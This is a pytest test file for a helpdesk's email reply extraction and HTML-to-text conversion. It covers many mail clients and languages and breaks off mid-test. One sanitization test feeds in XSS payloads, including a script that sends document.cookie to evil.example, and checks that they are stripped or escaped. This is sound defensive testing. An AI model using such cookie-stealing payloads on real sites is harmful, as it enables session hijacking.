"""The reply a helpdesk keeps of an inbound mail (``inbound.replies``), and HTML made text (``inbound.html``).

The samples are written the way the mail programs write them (headers, wrapping, quoting, markup), with
our notification quoted below the reply: it starts with the reply marker line.
"""

import pytest

from wagtail_support.inbound import replies as mailtext
from wagtail_support.inbound.replies import extract_reply, extract_reply_html, reply_text
from wagtail_support.inbound.html import html_to_text, parse_html
from wagtail_support.sanitize import render_text

MARKER_EN = "##- Please type your reply above this line -##"
MARKER_FR = "##- Veuillez écrire votre réponse au-dessus de cette ligne -##"

# Our notification, as it is quoted below a reply.
NOTIFICATION = f"""{MARKER_EN}

Hello Rita,

Alice Agent of the support team answered your ticket HD-1042:

Could you tell us which model the printer is?

-- 
Helpdesk
https://support.example.com/tickets/HD-1042/"""


def quoted(text, prefix="> "):
    return "\n".join((prefix + line).rstrip() for line in text.split("\n"))



# Plain text: top-posted replies -----------------------------------------------------------------------------

GMAIL_TEXT = f"""Hi,

It's an HP LaserJet 4000, on the 3rd floor.

Thanks,
Rita

On Tue, Mar 12, 2024 at 10:15 AM Helpdesk <support@example.com>
wrote:

{quoted(NOTIFICATION)}
"""

GMAIL_TEXT_FR = f"""Bonjour,

C'est une HP LaserJet 4000, au 3e étage.

Merci,
Rita

Le mar. 12 mars 2024 à 10:15, Helpdesk <support@example.com> a
écrit\u00a0:

{quoted(MARKER_FR)}
>
> Bonjour Rita,
"""

OUTLOOK_DESKTOP_TEXT = f"""Hello,

The printer works again, thank you.

Best regards,
John Smith
IT Department | ACME Corp
Tel: +33 1 23 45 67 89

From: Helpdesk <support@example.com>
Sent: Tuesday, March 12, 2024 10:15 AM
To: John Smith <john.smith@acme.example>
Subject: [HD-1042] Printer on the 3rd floor smokes

{NOTIFICATION}
"""

OUTLOOK_DESKTOP_TEXT_FR = f"""Bonjour,

L'imprimante refonctionne, merci.

Cordialement,
Jean Dupont

De\u00a0: Helpdesk <support@example.com>
Envoyé\u00a0: mardi 12 mars 2024 10:15
À\u00a0: Jean Dupont <jean.dupont@acme.example>
Objet\u00a0: [HD-1042] L'imprimante du 3e étage fume

{MARKER_FR}

Bonjour Jean,
"""

OUTLOOK_ORIGINAL_MESSAGE_FR = """Bonjour,

Le ticket peut être fermé.

Jean

-----Message d'origine-----
De : Helpdesk [mailto:support@example.com]
Envoyé : mardi 12 mars 2024 10:15
À : Jean Dupont
Objet : [HD-1042] L'imprimante du 3e étage fume

Bonjour Jean,
"""

OUTLOOK_WEB_TEXT = f"""Yes, please close the ticket.

Get Outlook for iOS
________________________________
From: Helpdesk <support@example.com>
Sent: Tuesday, March 12, 2024 10:15:00 AM
To: John Smith <john.smith@acme.example>
Subject: [HD-1042] Printer on the 3rd floor smokes

{NOTIFICATION}
"""

IPHONE_TEXT = f"""It still smokes when it prints in color.

Sent from my iPhone

> On 12 Mar 2024, at 10:15, Helpdesk <support@example.com> wrote:
>
{quoted(NOTIFICATION)}
"""

THUNDERBIRD_TEXT = f"""Hello,

the paper tray is broken too.

-- 
Rita Requester
Accounts, ACME Corp

On 12/03/2024 10:15, Helpdesk wrote:
{quoted(NOTIFICATION)}
"""

ORANGE_TEXT = f"""Bonjour,

Merci pour votre réponse, tout fonctionne maintenant.

Bonne journée
Rita

> Message du 12/03/24 10:15
> De : "Helpdesk" <support@example.com>
> A : rita.requester@orange.fr
> Copie à :
> Objet : [HD-1042] L'imprimante du 3e étage fume
>
{quoted(MARKER_FR)}
>
> Bonjour Rita,
"""

FREE_ZIMBRA_TEXT = f"""Bonjour,

Je vous envoie la photo demain.

Rita

----- Mail original -----
De: "Helpdesk" <support@example.com>
À: "rita requester" <rita.requester@free.fr>
Envoyé: Mardi 12 Mars 2024 10:15:00
Objet: [HD-1042] L'imprimante du 3e étage fume

{MARKER_FR}
"""

GERMAN_TEXT = f"""Hallo,

der Drucker funktioniert wieder.

Von meinem iPhone gesendet

Am 12.03.2024 um 10:15 schrieb Helpdesk <support@example.com>:

{quoted(NOTIFICATION)}
"""

SPANISH_TEXT = f"""Hola,

ya funciona, gracias.

El mar, 12 mar 2024 a las 10:15, Helpdesk (<support@example.com>) escribió:

{quoted(NOTIFICATION)}
"""

# A mail program that quotes without ">" and without a header: only the marker tells.
FRENCH_MARKER_ONLY = f"""Bonjour,
c'est réglé, merci !

{MARKER_FR}

Bonjour Rita,
"""


@pytest.mark.parametrize(
    "body, expected",
    [
        (GMAIL_TEXT, "Hi,\n\nIt's an HP LaserJet 4000, on the 3rd floor.\n\nThanks,\nRita"),
        (GMAIL_TEXT_FR, "Bonjour,\n\nC'est une HP LaserJet 4000, au 3e étage.\n\nMerci,\nRita"),
        (
            OUTLOOK_DESKTOP_TEXT,
            "Hello,\n\nThe printer works again, thank you.\n\nBest regards,\nJohn Smith\nIT Department | ACME Corp\n"
            "Tel: +33 1 23 45 67 89",
        ),
        (OUTLOOK_DESKTOP_TEXT_FR, "Bonjour,\n\nL'imprimante refonctionne, merci.\n\nCordialement,\nJean Dupont"),
        (OUTLOOK_ORIGINAL_MESSAGE_FR, "Bonjour,\n\nLe ticket peut être fermé.\n\nJean"),
        (OUTLOOK_WEB_TEXT, "Yes, please close the ticket."),
        (IPHONE_TEXT, "It still smokes when it prints in color."),
        (THUNDERBIRD_TEXT, "Hello,\n\nthe paper tray is broken too."),
        (ORANGE_TEXT, "Bonjour,\n\nMerci pour votre réponse, tout fonctionne maintenant.\n\nBonne journée\nRita"),
        (FREE_ZIMBRA_TEXT, "Bonjour,\n\nJe vous envoie la photo demain.\n\nRita"),
        (GERMAN_TEXT, "Hallo,\n\nder Drucker funktioniert wieder."),
        (SPANISH_TEXT, "Hola,\n\nya funciona, gracias."),
        (FRENCH_MARKER_ONLY, "Bonjour,\nc'est réglé, merci !"),
    ],
    ids=[
        "gmail", "gmail-fr", "outlook", "outlook-fr", "outlook-message-d-origine", "outlook-web", "iphone",
        "thunderbird", "orange", "free-zimbra", "german", "spanish", "french-marker",
    ],
)  # fmt: skip
def test_extract_reply_keeps_only_the_new_text(body, expected):
    assert extract_reply(body) == expected


def test_extract_reply_cuts_at_the_marker_even_with_text_below_it():
    body = f"Done.\n{MARKER_EN}\nAnything below is ours.\n\nEven this."
    assert extract_reply(body) == "Done."


def test_extract_reply_of_a_crlf_mail():
    body = (
        "Hello,  \r\n\r\n\r\n\r\nthe printer\x00 is fixed.\t\r\n\r\nBye\r\n\r\n"
        "On Tue, Mar 12, 2024 at 10:15 AM Helpdesk <support@example.com> wrote:\r\n\r\n"
        f"> {MARKER_EN}\r\n> Hello Rita,\r\n"
    )
    assert extract_reply(body) == "Hello,\n\nthe printer is fixed.\n\nBye"


# Plain text: answers between or below the quotes ------------------------------------------------------------

INTERLEAVED_TEXT = f"""Hello,

On Tue, Mar 12, 2024 at 10:15 AM Helpdesk <support@example.com> wrote:
> {MARKER_EN}
>
> Which model is it?

An HP LaserJet 4000.

> Is it plugged in?

Yes, of course.

> Regards,
> Alice Agent
"""


def test_extract_reply_keeps_an_interleaved_answer_and_drops_only_the_trailing_quote():
    assert extract_reply(INTERLEAVED_TEXT) == (
        "Hello,\n\n"
        "On Tue, Mar 12, 2024 at 10:15 AM Helpdesk <support@example.com> wrote:\n"
        "> Which model is it?\n\n"
        "An HP LaserJet 4000.\n\n"
        "> Is it plugged in?\n\n"
        "Yes, of course."
    )


def test_extract_reply_keeps_a_bottom_posted_answer():
    body = f"""On 12/03/2024 10:15, Helpdesk wrote:
> {MARKER_EN}
> Could you tell us which model the printer is?

An HP LaserJet 4000.

-- 
Rita
"""
    assert extract_reply(body) == (
        "On 12/03/2024 10:15, Helpdesk wrote:\n> Could you tell us which model the printer is?\n\nAn HP LaserJet 4000."
    )


def test_extract_reply_does_not_take_a_sentence_for_a_quote_header():
    body = "On the screen it wrote:\nERROR 42: paper jam\n\nRita"
    assert extract_reply(body) == body


# Plain text: forwards ----------------------------------------------------------------------------------------

GMAIL_FORWARD = """

---------- Forwarded message ---------
From: Bob Builder <bob@acme.example>
Date: Tue, Mar 12, 2024 at 9:00 AM
Subject: Printer
To: Rita Requester <rita@acme.example>


The printer on the 3rd floor smokes since this morning.

-- 
Bob
"""

APPLE_FORWARD = """

Begin forwarded message:

> From: Bob Builder <bob@acme.example>
> Subject: Printer
> Date: 12 March 2024 at 09:00:00 CET
> To: Rita Requester <rita@acme.example>
>
> The printer on the 3rd floor smokes since this morning.

"""


def test_a_pure_forward_keeps_the_forwarded_mail():
    assert extract_reply(GMAIL_FORWARD) == (
        "---------- Forwarded message ---------\n"
        "From: Bob Builder <bob@acme.example>\n"
        "Date: Tue, Mar 12, 2024 at 9:00 AM\n"
        "Subject: Printer\n"
        "To: Rita Requester <rita@acme.example>\n\n"
        "The printer on the 3rd floor smokes since this morning.\n\n"
        "--\n"
        "Bob"
    )
    assert extract_reply(APPLE_FORWARD) == (
        "Begin forwarded message:\n\n"
        "> From: Bob Builder <bob@acme.example>\n"
        "> Subject: Printer\n"
        "> Date: 12 March 2024 at 09:00:00 CET\n"
        "> To: Rita Requester <rita@acme.example>\n"
        ">\n"
        "> The printer on the 3rd floor smokes since this morning."
    )


def test_a_phone_forward_keeps_the_forwarded_mail():
    assert extract_reply("Sent from my iPhone\n" + APPLE_FORWARD).startswith("Begin forwarded message:\n\n> From: Bob")


def test_a_forward_below_some_text_is_cut():
    assert extract_reply("Can you look at this one too?\n\nRita\n" + GMAIL_FORWARD) == (
        "Can you look at this one too?\n\nRita"
    )
    assert extract_reply("See below.\n" + APPLE_FORWARD) == "See below."


def test_an_outlook_forward_without_text_is_kept_whole():
    body = """
________________________________
From: Bob Builder <bob@acme.example>
Sent: Tuesday, March 12, 2024 9:00 AM
To: Rita Requester <rita@acme.example>
Subject: Printer

The printer smokes.
"""
    assert extract_reply(body) == body.strip()


# Plain text: nothing of one's own, signatures, footers ---------------------------------------------------------


def test_a_reply_that_is_only_quoted_text_is_kept_whole():
    body = f"\n\nOn Tue, Mar 12, 2024 at 10:15 AM Helpdesk <support@example.com> wrote:\n\n{quoted(NOTIFICATION)}\n"
    assert extract_reply(body) == body.strip()
    only_quote = quoted(NOTIFICATION) + "\n"
    assert extract_reply(only_quote) == only_quote.strip()


def test_extract_reply_of_nothing_is_empty():
    assert extract_reply("") == ""
    assert extract_reply(" \r\n\r\n \t") == ""


@pytest.mark.parametrize("delimiter", ["-- ", "--"])
def test_extract_reply_drops_the_signature(delimiter):
    body = f"Please call me back.\n{delimiter}\nRita Requester\n+33 6 12 34 56 78\n"
    assert extract_reply(body) == "Please call me back."


@pytest.mark.parametrize(
    "footer",
    [
        "Sent from my iPhone",
        "Sent from my iPad",
        "Sent from my Android phone",
        "Sent from my phone",
        "Sent from Mail for Windows",
        "Get Outlook for iOS",
        "Get Outlook for Android",
        "Envoyé de mon iPhone",
        "Envoyé de mon iPad",
        "Envoyé depuis mon smartphone Samsung Galaxy",
        "Envoyé depuis l'application Mail Orange",
        "Obtenir Outlook pour iOS",
        "Obtenir Outlook pour Android",
        "Von meinem iPhone gesendet",
    ],
)
def test_extract_reply_drops_phone_footers(footer):
    assert extract_reply(f"Thanks, it works.\n\n{footer}\n") == "Thanks, it works."
    assert extract_reply(f"Thanks, it works.\n\n{footer}\n\n> {MARKER_EN}\n> Hello\n") == "Thanks, it works."


def test_a_footer_in_the_middle_of_the_text_stays():
    body = "Sent from my iPhone\nis how my mails end, can you remove that?"
    assert extract_reply(body) == body


# HTML -------------------------------------------------------------------------------------------------------

GMAIL_HTML = f"""<div dir="ltr"><div>Hi,</div><div><br></div><div>It&#39;s an HP LaserJet 4000, on the 3rd floor.</div>\
<div><br></div><div>Thanks,</div><div>Rita</div><br clear="all"><div><br></div><span class="gmail_signature_prefix">-- </span>\
<br><div dir="ltr" class="gmail_signature" data-smartmail="gmail_signature"><div dir="ltr">Rita Requester<div>Accounts, ACME</div>\
</div></div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Tue, Mar 12, 2024 at \
10:15 AM Helpdesk &lt;<a href="mailto:support@example.com">support@example.com</a>&gt; wrote:<br></div><blockquote \
class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex"><div>\
<table><tr><td class="ws-reply-marker" style="color:#4b5563">{MARKER_EN}</td></tr><tr><td>Hello Rita,<br><br>Alice Agent of the \
support team answered your ticket HD-1042</td></tr></table></div></blockquote></div>
"""

GMAIL_HTML_INTERLEAVED = f"""<div dir="ltr">Hello,</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">\
On Tue, Mar 12, 2024 at 10:15 AM Helpdesk &lt;<a href="mailto:support@example.com">support@example.com</a>&gt; wrote:<br></div>\
<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">\
<div>{MARKER_EN}</div><div><br></div><div>Which model is it?</div></blockquote><div><br></div><div>An HP LaserJet 4000.</div>\
<div><br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);\
padding-left:1ex"><div>Is it plugged in?</div></blockquote><div><br></div><div>Yes, of course.</div><div><br></div>\
<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex"><div>Regards,<br>Alice Agent</div></blockquote></div>
"""

OUTLOOK_DESKTOP_HTML = f"""<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" \
xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" \
xmlns="http://www.w3.org/TR/REC-html40"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)"><style><!--
/* Font Definitions */
@font-face {{font-family:"Cambria Math";}}
p.MsoNormal, li.MsoNormal, div.MsoNormal {{margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]--></head><body lang="EN-US" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Hello,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">The printer works again, thank you.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Best regards,<o:p></o:p></p>
<p class="MsoNormal"><b>John Smith</b><o:p></o:p></p>
<p class="MsoNormal">IT Department | <a href="https://acme.example/">ACME Corp</a><o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b><span lang="FR">From:</span></b><span lang="FR"> Helpdesk &lt;support@example.com&gt;
<br><b>Sent:</b> Tuesday, March 12, 2024 10:15 AM<br><b>To:</b> John Smith &lt;john.smith@acme.example&gt;<br>
<b>Subject:</b> [HD-1042] Printer on the 3rd floor smokes<o:p></o:p></span></p>
</div>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<table class="MsoNormalTable" border="0" cellpadding="0"><tr><td style="padding:0cm 18.0pt 9.0pt 18.0pt">
<p class="MsoNormal"><span style="color:#4B5563">{MARKER_EN}</span></p></td></tr></table>
</div>
</body>
</html>
"""

OUTLOOK_WEB_HTML = f"""<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">
<style type="text/css" style="display:none;"> P {{margin-top:0;margin-bottom:0;}} </style>
</head>
<body dir="ltr">
<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Calibri, Helvetica, sans-serif; font-size: 12pt;">
Yes, please close the ticket.</div>
<div class="elementToProof" style="font-size: 12pt;"><br></div>
<div id="ms-outlook-mobile-signature"><div style="direction:ltr">Get <a href="https://aka.ms/o0ukef">Outlook for iOS</a></div></div>
<div id="appendonsend"></div>
<hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>From:</b> \
Helpdesk &lt;support@example.com&gt;<br>
<b>Sent:</b> Tuesday, March 12, 2024 10:15:00 AM<br>
<b>To:</b> John Smith &lt;john.smith@acme.example&gt;<br>
<b>Subject:</b> [HD-1042] Printer on the 3rd floor smokes</font>
<div>&nbsp;</div>
</div>
<div><p>{MARKER_EN}</p><p>Hello John,</p></div>
</body>
</html>
"""

APPLE_MAIL_HTML = f"""<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>\
<body dir="auto"><div dir="ltr"></div><div dir="ltr">It still smokes when it prints in color.</div><div dir="ltr"><br></div>\
<div dir="ltr">Sent from my iPhone</div><div dir="ltr"><br><blockquote type="cite">On 12 Mar 2024, at 10:15, Helpdesk \
&lt;support@example.com&gt; wrote:<br><br></blockquote></div><blockquote type="cite"><div dir="ltr">\ufeff\
<div>{MARKER_EN}</div><div>Hello Rita,</div></div></blockquote></body></html>
"""

THUNDERBIRD_HTML = f"""<!DOCTYPE html>
<html>
  <head>
    <meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
  </head>
  <body>
    <p>Hello,</p>
    <p>the paper tray is broken too:</p>
    <ul>
      <li>it does not close,</li>
      <li>it jams.</li>
    </ul>
    <div class="moz-cite-prefix">On 12/03/2024 10:15, Helpdesk wrote:<br>
    </div>
    <blockquote type="cite" cite="mid:170.HD-1042@support.example.com">
      <div>{MARKER_EN}</div>
      <p>Hello Rita,</p>
    </blockquote>
    <br>
    <pre class="moz-signature" cols="72">-- 
Rita Requester
Accounts, ACME Corp</pre>
  </body>
</html>
"""

YAHOO_HTML = f"""<html><head></head><body><div class="yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, \
sans-serif;font-size:13px;"><div dir="ltr" data-setdir="false">The new toner fixed it.</div></div><div id="yahoo_quoted_1234" \
class="yahoo_quoted"><div style="font-family:'Helvetica Neue', Helvetica, Arial, sans-serif;font-size:13px;color:#26282a;">\
<div>On Tuesday, March 12, 2024, 10:15:00 AM GMT+1, Helpdesk &lt;support@example.com&gt; wrote:</div><div><br></div>\
<div><br></div><div><div id="yiv123"><div>{MARKER_EN}</div><div>Hello Rita,</div></div></div></div></div></body></html>
"""

PROTON_HTML = f"""<div style="font-family: Arial, sans-serif; font-size: 14px;">Thanks, you can close it.</div>\
<div style="font-family: Arial, sans-serif; font-size: 14px;"><br></div><div class="protonmail_signature_block" \
style="font-family: Arial, sans-serif; font-size: 14px;"><div class="protonmail_signature_block-proton">Sent with \
<a target="_blank" href="https://proton.me/">Proton Mail</a> secure email.</div></div><div \
style="font-family: Arial, sans-serif; font-size: 14px;"><br></div><div class="protonmail_quote">On Tuesday, March 12th, \
2024 at 10:15, Helpdesk &lt;support@example.com&gt; wrote:<br><blockquote class="protonmail_quote" type="cite">\
<div>{MARKER_EN}</div><div>Hello Rita,</div></blockquote><br></div>
"""

ORANGE_HTML = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>\
<p>Bonjour,</p><p>Merci pour votre r&eacute;ponse, tout fonctionne maintenant.</p><p>Bonne journ&eacute;e<br>Rita</p>\
<p>&nbsp;</p><blockquote style="border-left: 2px solid blue; margin-left: 5px; padding-left: 5px; padding-top: 5px;">\
<hr><b>Message du 12/03/24 10:15</b><br><b>De : </b>"Helpdesk" &lt;support@example.com&gt;<br>\
<b>A : </b>rita.requester@orange.fr<br><b>Copie &agrave; : </b><br><b>Objet : </b>[HD-1042] L'imprimante fume<br><br>\
<div>{MARKER_FR}</div><div>Bonjour Rita,</div></blockquote></body></html>
"""

FREE_ZIMBRA_HTML = f"""<html><body><div style="font-family: arial, helvetica, sans-serif; font-size: 12pt; color: #000000">\
<div>Bonjour,</div><div><br></div><div>Je vous envoie la photo demain.</div><div><br></div><div>Rita</div><div><br></div>\
<hr id="zwchr" data-marker="__DIVIDER__"><div data-marker="__HEADERS__"><b>De: </b>"Helpdesk" &lt;support@example.com&gt;\
<br><b>À: </b>"rita requester" &lt;rita.requester@free.fr&gt;<br><b>Envoyé: </b>Mardi 12 Mars 2024 10:15:00<br>\
<b>Objet: </b>[HD-1042] L'imprimante fume<br></div><div><br></div><div data-marker="__QUOTED_TEXT__">\
<div>{MARKER_FR}</div><div>Bonjour Rita,</div></div></div></body></html>
"""

GMAIL_HTML_FR = f"""<div dir="ltr">Bonjour,<div><br></div><div>C&#39;est une HP LaserJet 4000, au 3<sup>e</sup> \
&eacute;tage.</div><div><br></div><div>Merci,</div><div>Rita</div></div><br><div class="gmail_quote"><div dir="ltr" \
class="gmail_attr">Le&nbsp;mar. 12 mars 2024 à&nbsp;10:15, Helpdesk &lt;<a href="mailto:support@example.com">\
support@example.com</a>&gt; a écrit&nbsp;:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">\
<div>{MARKER_FR}</div><div>Bonjour Rita,</div></blockquote></div>
"""


@pytest.mark.parametrize(
    "html, expected",
    [
        (GMAIL_HTML, "Hi,\n\nIt's an HP LaserJet 4000, on the 3rd floor.\n\nThanks,\nRita"),
        (GMAIL_HTML_FR, "Bonjour,\n\nC'est une HP LaserJet 4000, au 3e étage.\n\nMerci,\nRita"),
        (
            OUTLOOK_DESKTOP_HTML,
            "Hello,\n\nThe printer works again, thank you.\n\nBest regards,\nJohn Smith\n"
            "IT Department | ACME Corp (https://acme.example/)",
        ),
        (OUTLOOK_WEB_HTML, "Yes, please close the ticket."),
        (APPLE_MAIL_HTML, "It still smokes when it prints in color."),
        (THUNDERBIRD_HTML, "Hello,\n\nthe paper tray is broken too:\n\n- it does not close,\n- it jams."),
        (YAHOO_HTML, "The new toner fixed it."),
        (PROTON_HTML, "Thanks, you can close it."),
        (ORANGE_HTML, "Bonjour,\n\nMerci pour votre réponse, tout fonctionne maintenant.\n\nBonne journée\nRita"),
        (FREE_ZIMBRA_HTML, "Bonjour,\n\nJe vous envoie la photo demain.\n\nRita"),
    ],
    ids=["gmail", "gmail-fr", "outlook", "outlook-web", "apple-mail", "thunderbird", "yahoo", "proton", "orange", "free-zimbra"],
)
def test_extract_reply_html_keeps_only_the_new_text(html, expected):
    assert extract_reply_html(html) == expected


def test_extract_reply_html_keeps_an_interleaved_answer():
    assert extract_reply_html(GMAIL_HTML_INTERLEAVED) == (
        "Hello,\n\n"
        "On Tue, Mar 12, 2024 at 10:15 AM Helpdesk <support@example.com> wrote:\n\n"
        "> Which model is it?\n\n"
        "An HP LaserJet 4000.\n\n"
        "> Is it plugged in?\n\n"
        "Yes, of course."
    )


def test_extract_reply_html_cuts_at_the_marker_outside_a_quote():
    html = f'<div>Fine by me.</div><div style="color:#888">{MARKER_EN}</div><div>Hello Rita,</div>'
    assert extract_reply_html(html) == "Fine by me."
    # Wrapped over two source lines, and after the text in the same element.
    html = "<div>Fine by me.<br>##- Please type your reply\n above this line -##<br>Hello Rita,</div>"
    assert extract_reply_html(html) == "Fine by me."


def test_extract_reply_html_of_a_pure_forward_keeps_the_forwarded_mail():
    html = """<div dir="ltr"><br><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">---------- Forwarded \
message ---------<br>From: <strong class="gmail_sendername" dir="auto">Bob Builder</strong> <span dir="auto">&lt;\
<a href="mailto:bob@acme.example">bob@acme.example</a>&gt;</span><br>Date: Tue, Mar 12, 2024 at 9:00 AM<br>Subject: \
Printer<br>To: Rita Requester &lt;<a href="mailto:rita@acme.example">rita@acme.example</a>&gt;<br></div><br><br>\
<div dir="ltr">The printer on the 3rd floor smokes since this morning.</div></div></div>"""
    assert extract_reply_html(html) == (
        "---------- Forwarded message ---------\n"
        "From: Bob Builder <bob@acme.example>\n"
        "Date: Tue, Mar 12, 2024 at 9:00 AM\n"
        "Subject: Printer\n"
        "To: Rita Requester <rita@acme.example>\n\n"
        "The printer on the 3rd floor smokes since this morning."
    )


def test_extract_reply_html_of_a_reply_without_own_text_keeps_the_quote():
    html = f"""<div dir="ltr"><br></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, Mar 12, \
2024 at 10:15 AM Helpdesk &lt;support@example.com&gt; wrote:<br></div><blockquote class="gmail_quote"><div>{MARKER_EN}</div>\
<div>Hello Rita,</div></blockquote></div>"""
    assert extract_reply_html(html) == (
        f"On Tue, Mar 12, 2024 at 10:15 AM Helpdesk <support@example.com> wrote:\n\n> {MARKER_EN}\n> Hello Rita,"
    )


def test_extract_reply_html_turns_a_script_into_harmless_text():
    html = """<html><head><script>alert(document.cookie)</script></head><body>
<div>My password reset page shows <b>this</b>:</div>
<script type="text/javascript">fetch("https://evil.example/?c=" + document.cookie)</script>
<div onclick="alert(1)">&lt;script&gt;alert(1)&lt;/script&gt;</div>
<img src="x" onerror="alert(2)"><iframe src="https://evil.example"></iframe>
<a href="javascript:alert(3)">Click here</a>
</body></html>"""
    reply = extract_reply_html(html)
    assert reply == "My password reset page shows this:\n<script>alert(1)</script>\nClick here"
    # What the sender typed stays as text; shown in a ticket it is escaped, never run.
    assert "alert(document.cookie)" not in reply and "evil.example" not in reply and "javascript" not in reply
    assert render_text(reply) == (
        "<p>My password reset page shows this:<br>&lt;script&gt;alert(1)&lt;/script&gt;<br>Click here</p>"
    )


def test_extract_reply_html_of_nothing_is_empty():
    assert extract_reply_html("") == ""
    assert extract_reply_html("<html><head><title>x</title></head><body><div><br></div></body></html>") == ""


# reply_text: the inbound handler's entry point ---------------------------------------------------------------


def test_reply_text_prefers_the_esp_stripped_text():
    assert reply_text(stripped_text="Yes,\r\nplease.\x00", text=GMAIL_TEXT, html=GMAIL_HTML) == "Yes,\nplease."


def test_reply_text_still_cuts_the_stripped_text_at_the_marker():
    stripped = f"Yes, please.\n\n{MARKER_FR}\n\nBonjour Rita,"
    assert reply_text(stripped_text=stripped, text=GMAIL_TEXT) == "Yes, please."


def test_reply_text_falls_back_to_the_text_then_the_html():
    expected = "Hi,\n\nIt's an HP LaserJet 4000, on the 3rd floor.\n\nThanks,\nRita"
    assert reply_text(text=GMAIL_TEXT, html="<p>ignored</p>") == expected
    assert reply_text(stripped_text="", text=GMAIL_TEXT) == expected
    # A stripped text that is nothing but our marker is no reply.
    assert reply_text(stripped_text=f"{MARKER_EN}\nHello Rita,", text=GMAIL_TEXT) == expected
    assert reply_text(stripped_text=None, text=" \r\n ", html=GMAIL_HTML) == expected
    assert reply_text(html=OUTLOOK_WEB_HTML) == "Yes, please close the ticket."


def test_reply_text_of_an_empty_mail_is_empty():
    assert reply_text() == ""
    assert reply_text(stripped_text=" ", text="\r\n", html="<p>&nbsp;</p>") == ""


# html_to_text --------------------------------------------------------------------------------------------------


def test_html_to_text_decodes_entities():
    assert html_to_text("<p>Fish &amp; chips &lt;3 &eacute;t&eacute; &#8364;5 &#x263A;</p>") == "Fish & chips <3 été €5 ☺"
    # Typed entities are decoded once, not twice.
    assert html_to_text("<p>&amp;lt;b&amp;gt;</p>") == "&lt;b&gt;"


def test_html_to_text_lays_out_blocks():
    html = (
        "<h1>Printer</h1><p>First   paragraph,\n  one line.</p><p>Second<br>paragraph</p>"
        "<div>A div</div><div><br></div><div>after a blank line&nbsp;&nbsp;</div>"
        "<blockquote><p>quoted</p><p>twice</p></blockquote><p>end</p>"
    )
    assert html_to_text(html) == (
        "Printer\n\nFirst paragraph, one line.\n\nSecond\nparagraph\n\nA div\n\nafter a blank line\n\n"
        "> quoted\n>\n> twice\n\nend"
    )


def test_html_to_text_writes_lists():
    html = "<p>Steps:</p><ul><li>open the tray</li><li>remove the paper<ol><li>gently</li></ol></li></ul><ol><li><p>done</p></li></ol>"
    assert html_to_text(html) == "Steps:\n\n- open the tray\n- remove the paper\n  - gently\n- done"


def test_html_to_text_keeps_link_text_and_shows_a_different_address():
    html = (
        '<p><a href="https://example.com/kb/12">the help page</a>, '
        '<a href="https://example.com/">example.com</a>, '
        '<a href="mailto:help@example.com?subject=Hi">help@example.com</a>, '
        '<a href="mailto:help@example.com">write to us</a>, '
        '<a href="javascript:alert(1)">javascript</a>, '
        '<a href="https://evil.example/">https://bank.example/</a>, '
        '<a href="https://example.com/logo"><img src="logo.png" alt="Logo"></a></p>'
    )
    assert html_to_text(html) == (
        "the help page (https://example.com/kb/12), example.com, help@example.com, "
        "write to us (help@example.com), javascript, https://bank.example/ (https://evil.example/),"
    )


def test_html_to_text_drops_head_style_script_and_title():
    html = (
        "<html><head><title>Secret title</title><style>p { color: red }</style>"
        "<script>var x = '<p>not text</p>';</script></head>"
        "<body><style>.x{}</style><p>Visible</p><script>alert(1)</script><noscript>no script</noscript></body></html>"
    )
    assert html_to_text(html) == "Visible\n\nno script"


def test_html_to_text_ends_an_unclosed_head_at_the_body_text():
    assert html_to_text("<head><meta charset=utf-8><title>T</title><p>Body text") == "Body text"


def test_html_to_text_lays_out_tables_and_preformatted_text():
    html = "<table><tr><th>Model</th><th>Floor</th></tr><tr><td>HP 4000</td><td>3</td></tr></table><pre>\n  $ lpstat\n  idle</pre>"
    assert html_to_text(html) == "Model Floor\nHP 4000 3\n  $ lpstat\n  idle"


def test_html_to_text_collapses_blank_lines_and_strips_trailing_spaces():
    html = "<div>a   </div><p>&nbsp;</p><p></p><div><br></div><div><br></div><br><br><div>b&nbsp;</div>"
    assert html_to_text(html) == "a\n\nb"


def test_html_to_text_writes_outlook_lines_as_lines():
    html = '<p class="MsoNormal">Hi,<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Done.</p>'
    assert html_to_text(html) == "Hi,\n\nDone."


@pytest.mark.parametrize(
    "dirty",
    [
        "<p>Hi</p><script>alert(1)</script>",
